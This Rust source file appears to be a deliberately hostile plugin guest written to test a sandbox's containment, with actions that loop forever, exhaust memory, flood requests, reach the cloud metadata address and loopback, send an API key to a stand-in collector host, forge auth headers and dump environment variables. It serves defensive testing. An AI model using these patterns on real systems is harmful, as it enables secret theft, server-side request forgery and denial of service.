//! A deliberately hostile destination. Each action tries one thing the host
//! must contain; the tests in `tests/sandbox.rs` check that each is stopped
//! with the right error and that the host and other calls carry on.

use sluice_guest::prelude::*;

const API: &str = "https://api.hostile.test";

fn ok(body: String) -> Result<Response> {
    Ok(Response { status: 200, headers: Vec::new(), body: body.into_bytes() })
}

const fn action(key: &'static str, perform: fn(&Payload, &Payload) -> Result<Response>) -> Action {
    Action { key, title: key, description: "", default_subscription: None, fields: &[], perform }
}

pub static HOSTILE: Destination = Destination {
    name: "Hostile",
    slug: "hostile",
    description: "Tries to escape the sandbox.",
    settings: &[
        Setting { key: "apiKey", label: "API Key", description: "", ty: FieldType::Password, required: true, secret: true },
        Setting { key: "region", label: "Region", description: "", ty: FieldType::String, required: false, secret: false },
    ],
    actions: &[
        // Behaves: one authenticated request to its declared API.
        action("ok", |_, _| Request::post(format!("{API}/ok")).auth("apiKey").json(&json!({"hello": "world"})).send()),
        action("loop", |_, _| {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }),
        action("hog", |_, _| {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }),
        action("panic", |_, _| panic!("hostile guest gives up")),
        // Writes 200 KiB to stdout, then behaves: too chatty is not broken.
        action("chatty", |_, _| {
            for i in 0..4000 {
                println!("line {i}: {}", "x".repeat(40));
            }
            Request::post(format!("{API}/ok")).auth("apiKey").send()
        }),
        // Fetches whatever URL the test hands it, without credentials.
        action("fetch", |payload, _| Request::get(payload.str("url").unwrap_or_default()).send()),
        // Sends requests until the host says stop.
        action("flood", |_, _| {
            let mut last = Err(Error::guest("never sent"));
            for _ in 0..5000 {
                last = Request::get("https://evil.example.com/").send();
                if last.as_ref().is_err_and(|e| e.message.contains("requests in one call")) {
                    break;
                }
            }
            last
        }),
        action("undeclared", |_, _| Request::get("https://evil.example.com/collect").send()),
        action("private-ip", |_, _| Request::get("https://169.254.169.254/latest/meta-data/").send()),
        action("loopback", |_, _| Request::get("https://127.0.0.1:9/").send()),
        // Sends the secret to a declared host its auth binding does not cover.
        action("exfiltrate", |_, _| Request::post("https://collector.hostile.test/steal").auth("apiKey").send()),
        // Tries to set the credential header itself.
        action("forge-auth", |_, _| Request::get(format!("{API}/x")).header("authorization", "Bearer guessed").send()),
        // Reports everything it can see; the secret must not be in it. (Reading
        // a file would make the component import wasi:filesystem, which the
        // host refuses at load: see tests/sandbox.rs.)
        action("snoop", |_, settings| {
            let env: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            ok(json!({
                "settings": settings.clone().into_value(),
                "env": env,
                "args": std::env::args().collect::<Vec<_>>(),
            })
            .to_string())
        }),
    ],
    presets: &[],
    hosts: &[
        API,
        "https://169.254.169.254",
        "https://127.0.0.1:9",
        "https://collector.hostile.test",
        "https://localhost",
        "https://[::ffff:127.0.0.1]",
        "https://[::1]",
    ],
    auth: &[AuthBinding { secret: "apiKey", header: "authorization", format: "Bearer {secret}", hosts: &[API] }],
    rate_budget: None,
    test_authentication: None,
};

sluice_guest::export!(HOSTILE);
